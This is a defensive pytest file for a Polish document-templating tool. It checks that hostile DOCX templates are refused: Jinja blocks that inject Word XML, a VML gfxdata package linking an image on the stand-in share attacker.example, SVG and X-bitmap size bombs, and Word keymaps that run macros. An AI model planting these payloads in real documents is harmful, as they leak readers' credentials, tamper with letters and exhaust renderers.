"""Issue 17, sixth templates review: what `szablony sprawdz` still computed while compiling, a filter block
printing case data as XML, a second package hidden in a VML shape, and ids pismo and LibreOffice read apart."""

from __future__ import annotations

import base64
import io
import re
import struct
import zipfile

import pytest
from lxml import etree

from pismo.documents import lint
from pismo.render import engine, images, package, reach, sandbox
from test_template_package import build, in_body, refused_everywhere, rel, with_image
from test_templates_round5 import W, _two_targets_of_one_id, counted, made  # noqa: F401 – counted: the fixture


FOLDING = [
    "{{ ('a'|center(99999))|replace(' ', 'bb')|length }}",
    "{{ (('a'|center(999))|replace(' ', ' a a')|wordwrap(2))|length }}",
    "{% if 'a'|upper == 'A' %}x{% endif %}",
]


@pytest.mark.parametrize("source", FOLDING)
def test_finding_the_variables_of_a_template_computes_nothing(counted, source):
    # finding 1: jinja's meta.find_undeclared_variables compiled with jinja's own, folding, code generator
    ast = engine.environment().parse(source + "{{ adresat.nazwa }}")
    assert sandbox.undeclared_names(ast) == {"adresat"}
    assert counted == []


def test_szablony_sprawdz_computes_nothing_while_it_reads_a_template(counted, tmp_path):
    path = tmp_path / "plan.docx"
    path.write_bytes(build(in_body(f'<w:r><w:t xml:space="preserve">{"".join(FOLDING)}</w:t></w:r>')))
    lint.lint_template(path, "plan.docx")
    assert counted == []


def _filled(source: str, **data) -> str:
    ast, template = engine.compile_source(source)
    return template.render(**data)


@pytest.mark.parametrize("source", [
    "<w:t>{% filter striptags %}{{ x }}{% endfilter %}</w:t>",  # finding 5: striptags unescapes the block's text
    "<w:t>{% call '{0}'.format(x) %}{% endcall %}</w:t>",  # one step beside: str.format takes the caller too
])
def test_a_block_prints_the_cases_text_escaped(source):
    filled = _filled(source, x="Łęczna</w:t></w:r><w:r><w:t>X & <y>")
    assert "</w:t></w:r>" not in filled and "&lt;/w:t&gt;" in filled and "&amp;" in filled


@pytest.mark.parametrize("source", [
    # finding 11: a block's text, escaped when it was made, was escaped again when printed
    "{% macro m() %}Policja &amp; {{ x }}{% endmacro %}{{ m() }}",
    "{% set s %}Policja &amp; {{ x }}{% endset %}{{ s }}",
    "{% macro w() %}{{ caller() }}{% endmacro %}{% call w() %}Policja &amp; {{ x }}{% endcall %}",
    "{% macro m() %}Policja &amp; {{ x }}{% endmacro %}{% macro w() %}{{ caller() }}{% endmacro %}{{ w(caller=m) }}",
])
def test_a_blocks_text_is_printed_escaped_once(source):
    assert _filled(source, x="A & B") == "Policja &amp; A &amp; B"


@pytest.mark.parametrize("source", [
    "{% call() ('x'|e|indent(x, first=True)).format() %}{% endcall %}",  # finding 13: Markup made of the data
    "{{ ('x'|e|indent(x, first=True)) }}",
    "{{ ('&lt;'|e)[0] }}",  # a cut reference: printed as its character
])
def test_a_markup_holding_xml_or_a_cut_reference_is_printed_as_text(source):
    filled = _filled(source, x="<w:vanish/>")
    assert "<w:vanish/>" not in filled and "&amp;" in filled or "&lt;w:vanish/&gt;" in filled


def test_a_filter_block_is_refused_everywhere(tmp_path):
    spec = in_body('<w:r><w:t xml:space="preserve">{% filter upper %}{{ jednostka.miejscowosc }}{% endfilter %}'
                   '</w:t></w:r>')
    refused_everywhere(tmp_path, spec, "znacznik „{% filter %}” jest niedozwolony")


def _gfxdata_shape(prefix: str = "o") -> str:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("drs/_rels/shapexml.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                         '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                         'officeDocument/2006/relationships/image" Target="file://///attacker.example/share/x.png" '
                         'TargetMode="External"/></Relationships>')
    data = base64.b64encode(inner.getvalue()).decode()
    return (f'<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:{prefix}="urn:schemas-microsoft-com:'
            f'office:office" style="width:20pt;height:4pt" fillcolor="#4472c4" {prefix}:gfxdata="{data}"/></w:pict></w:r>')


@pytest.mark.parametrize("prefix", ["o", "x"])
def test_a_second_package_in_a_vml_shape_never_reaches_a_document(tmp_path, prefix):
    # finding 4: o:gfxdata, a zip of DrawingML with a picture linked on a share, was copied into every document
    body = made(tmp_path, in_body(_gfxdata_shape(prefix)))
    assert "gfxdata" not in body and "<v:rect" in body


def test_a_second_package_in_a_vml_shape_is_dropped_from_every_part():
    header = f'<w:hdr {W}><w:p>{_gfxdata_shape()}</w:p></w:hdr>'.encode()
    [(name, blob)] = package.without_gfxdata([("word/header1.xml", header)])
    assert name == "word/header1.xml" and b"gfxdata" not in blob and b"v:rect" in blob
    untouched = [("word/footer1.xml", f'<w:ftr {W}><w:p><w:r><w:t>gfxdata</w:t></w:r></w:p></w:ftr>'.encode())]
    assert package.without_gfxdata(untouched) == untouched


def test_a_second_package_written_while_filling_is_refused():
    blob = f'<w:document {W}><w:body><w:p>{_gfxdata_shape()}</w:p></w:body></w:document>'.encode()
    with pytest.raises(reach.Outside, match="gfxdata"):
        reach.check_tree("word/document.xml", etree.fromstring(blob), blob=blob)


_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"'


@pytest.mark.parametrize("key", ["a ", " a", "a b", "a\u00a0", "a\t"])
def test_an_svg_id_holding_a_space_is_refused(key):
    # finding 2: pismo trimmed href="#a " to the 1-unit rect "a", LibreOffice drew the 36 Mpx image "a "
    svg = (f'<svg {_SVG}><defs><image id="{key}" width="1" height="1"/><rect id="a0" width="1" height="1"/></defs>'
           f'<use xlink:href="#{key}"/></svg>')
    with pytest.raises(images.TooLarge, match="identyfikatorze ze spacją"):
        images.check_svg(etree.ElementTree(etree.fromstring(svg)))


def test_an_svg_id_holding_a_space_is_refused_everywhere(tmp_path):
    svg = f'<svg {_SVG}><defs><image id="a " width="1" height="1"/><rect id="a"/></defs><use href="#a "/></svg>'
    refused_everywhere(tmp_path, with_image("a.svg", svg.encode()), "identyfikatorze ze spacją")


@pytest.mark.parametrize("spaced", [" rId90", "rId90 ", "rId\u00a090"])
def test_a_relationship_id_holding_a_space_is_refused_everywhere(tmp_path, spaced):
    # finding 3: " rId90" and "rId90" were two to the duplicate check, one to the count of drawings
    refused_everywhere(tmp_path, _two_targets_of_one_id(spaced, "rId90"), "identyfikatorze ze spacją")


@pytest.mark.parametrize("source", [
    # finding 9: str.format takes the caller argument and prints it as nothing
    "PRZED {% call '{caller!s:.0}{x}'.format(x=x) %}{% endcall %} PO",
    "PRZED {% call '\\x3c/w:t\\x3e\\x3cw:vanish/\\x3e{caller!s:.0}'.format() %}{% endcall %} PO",
])
def test_a_call_block_of_any_callable_prints_text(source):
    filled = _filled(source, x="</w:t><w:b/>")
    assert "<w:b/>" not in filled and "<w:vanish/>" not in filled and "</w:t>" not in filled


def _bmp_looking(reserved: bytes, header: int) -> bytes:
    """'BM', a 1 x 1 header, then an X bitmap of 4000 x 4000 (LibreOffice's reading when the BMP test fails)."""
    dib = struct.pack("<IiiHH", header, 1, 1, 1, 24)
    xbm = b"\n#define a_width 4000\n#define a_height 4000\nstatic char a_bits[] = {0x5,0x5};\n"
    return b"BM" + struct.pack("<I", 14 + len(dib) + len(xbm)) + reserved + struct.pack("<I", 14 + len(dib)) + dib + xbm


@pytest.mark.parametrize("reserved, header", [(b"\1\1\1\1", 0x41), (b"\0\0\0\0", 0x41), (b"\1\0\0\0", 40)])
def test_a_picture_only_starting_like_a_bmp_is_no_bmp(reserved, header):
    # finding 6: pismo measured any 'BM…' as a 1 x 1 BMP, LibreOffice decoded a 16 Mpx X bitmap
    assert not images.recognised(_bmp_looking(reserved, header))


def test_a_picture_only_starting_like_a_bmp_is_refused_everywhere(tmp_path):
    refused_everywhere(tmp_path, with_image("image9.png", _bmp_looking(b"\1\1\1\1", 0x41)), "nie jest obrazem")


@pytest.mark.parametrize("header", [12, 40, 108, 124])
def test_a_bmp_as_written_still_is_one(header):
    dib = struct.pack("<IHHHH", 12, 3, 2, 1, 24) if header == 12 else struct.pack("<IiiHH", header, 3, 2, 1, 24)
    dib += bytes(max(header - len(dib), 0))
    blob = b"BM" + struct.pack("<IHHI", 14 + len(dib), 0, 0, 14 + len(dib)) + dib
    assert images.recognised(blob) and images.sizes(blob) == [(3, 2)]


def test_a_word_template_dotx_as_the_letters_main_part_is_refused_everywhere(tmp_path):
    # finding 7: every letter was a .docx with a .dotx's content type, which Word refuses to open
    dotx = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    spec = {"[Content_Types].xml": lambda xml: re.sub(r'(PartName="/word/document.xml" ContentType=")[^"]*', r"\g<1>" + dotx, xml)}
    refused_everywhere(tmp_path, spec, "jako szablon Worda (.dotx)")


def test_word_key_assignments_are_refused_everywhere(tmp_path):
    # finding 8: Ctrl+S closing the letter, Ctrl+P running a macro of the reader's Normal.dotm
    keymaps = ('<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps>'
               '<wne:keymap wne:kcmPrimary="0450"><wne:macro wne:macroName="NORMAL.NEWMACROS.MAKRO1"/></wne:keymap>'
               '</wne:keymaps></wne:tcg>')
    spec = {"edits": rel('Type="http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations" '
                         'Target="customizations.xml"'), "extra": [("word/customizations.xml", keymaps.encode())]}
    refused_everywhere(tmp_path, spec, "przypisanie klawiszy")


_BOMB_INSIDE = ('<svg width="10" height="10"><defs><pattern id="p" width="1" height="1" patternUnits="userSpaceOnUse">'
                '<rect width="1" height="1"/></pattern></defs><rect width="1000000" height="1000000" fill="url(#p)"/>'
                '</svg>')


@pytest.mark.parametrize("drawing", [
    f'<a xmlns="http://www.w3.org/2000/svg">{_BOMB_INSIDE}</a>',  # finding 10: LibreOffice finds <svg and draws it
    '<g:a xmlns:g="urn:x"><b>' + _BOMB_INSIDE.replace("<svg", '<svg xmlns="http://www.w3.org/2000/svg"', 1) + '</b></g:a>',
    '<a>\n#define a_width 4000\n#define a_height 4000\nstatic char a_bits[] = {0x5,0x5};\n</a>',  # an X bitmap
])
def test_an_xml_picture_that_is_no_svg_drawing_is_refused_everywhere(tmp_path, drawing):
    refused_everywhere(tmp_path, with_image("image1.svg", drawing.encode()), "word/media/image1.svg")


def test_an_svg_drawing_as_the_root_is_still_checked(tmp_path):
    svg = _BOMB_INSIDE.replace("<svg width=\"10\" height=\"10\"", f"<svg {_SVG}", 1)
    refused_everywhere(tmp_path, with_image("image1.svg", svg.encode()), "wypełnienie wzorem")


@pytest.mark.parametrize("source", [
    # finding 11: a block's text is printed as text, so Word's XML in it showed as code
    "{% macro podpis() %}Dzielnicowy </w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>KPP{% endmacro %}{{ podpis() }}",
    "{% set s %}Rada <w:br/>Zarząd{% endset %}{{ s }}",
    "{% macro w() %}{{ caller() }}{% endmacro %}{% call w() %}KPP <w:tab/>SM{% endcall %}",
])
def test_word_xml_in_a_block_is_refused(source):
    ast, _ = engine.compile_source(source)
    assert any("jako zwykły tekst" in message for message in engine.refused_tags(ast))


def test_plain_text_in_a_block_passes():
    ast, _ = engine.compile_source("{% macro m(a) %}Dzielnicowy &amp; {{ a }}{% endmacro %}{% set s %}Rada{% endset %}"
                                   "{{ m(s) }}")
    assert engine.refused_tags(ast) == []


def test_word_xml_in_a_macro_is_refused_everywhere(tmp_path):
    spec = in_body('<w:r><w:t xml:space="preserve">{% macro podpis() %}Dzielnicowy </w:t></w:r><w:r><w:rPr><w:b/>'
                   '</w:rPr><w:t xml:space="preserve">KPP{% endmacro %}PODPIS: {{ podpis() }}</w:t></w:r>')
    refused_everywhere(tmp_path, spec, "jako zwykły tekst")


def test_svg_text_drawn_through_uses_counts_every_character():
    # finding 12: one <text> of 500 000 characters drawn 20 times passed as 21 elements (38 s a PDF)
    svg = f'<svg {_SVG}><defs><text id="t">{"Wlazł kotek " * 6000}</text></defs>' + '<use href="#t"/>' * 2 + "</svg>"
    with pytest.raises(images.TooLarge, match="elementów"):
        images.check_svg(etree.ElementTree(etree.fromstring(svg)))


def test_svg_text_of_a_logo_passes():
    svg = (f'<svg {_SVG}>\n  <defs>\n    <text id="t">Komenda <tspan>Powiatowa</tspan> Policji</text>\n  </defs>\n'
           + '  <use href="#t"/>\n' * 20 + "</svg>")
    assert images.check_svg(etree.ElementTree(etree.fromstring(svg))) == 0


@pytest.mark.parametrize("reference", ['<use href="#  t"/>', '<rect fill="url(# t)"/>'])
def test_an_svg_reference_with_a_space_after_the_hash_is_counted(reference):
    svg = f'<svg {_SVG}><defs><text id="t">{"x" * 60000}</text></defs>{reference}{reference}</svg>'
    with pytest.raises(images.TooLarge, match="elementów"):
        images.check_svg(etree.ElementTree(etree.fromstring(svg)))


@pytest.mark.parametrize("second", ['<Override PartName="/word/document.xml" ContentType="{t}"/>',
                                    '<Override PartName="/WORD/document%2Exml" ContentType="{t}"/>',
                                    '<Default Extension="XML" ContentType="{t}"/>'])
def test_a_part_or_extension_typed_twice_is_refused_everywhere(tmp_path, second):
    # finding 14: a template's type before the letter's own passed, the table kept the last
    dotx = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    spec = {"[Content_Types].xml": lambda xml: xml.replace("<Default ", second.format(t=dotx) + "<Default ", 1)}
    refused_everywhere(tmp_path, spec, "dwa razy")


def test_x_bitmap_text_in_any_xml_part_is_refused_everywhere(tmp_path):
    # beside finding 10: a part of another relationship type a picture element uses is drawn as an X bitmap too
    xbm = '<a>\n#define a_width 4000\n#define a_height 4000\nstatic char a_bits[] = {0x5,0x5};\n</a>'
    spec = {"edits": rel('Type="http://schemas.microsoft.com/office/2007/relationships/hdphoto" Target="media/x.xml"'),
            "extra": [("word/media/x.xml", xbm.encode())]}
    refused_everywhere(tmp_path, spec, "word/media/x.xml")
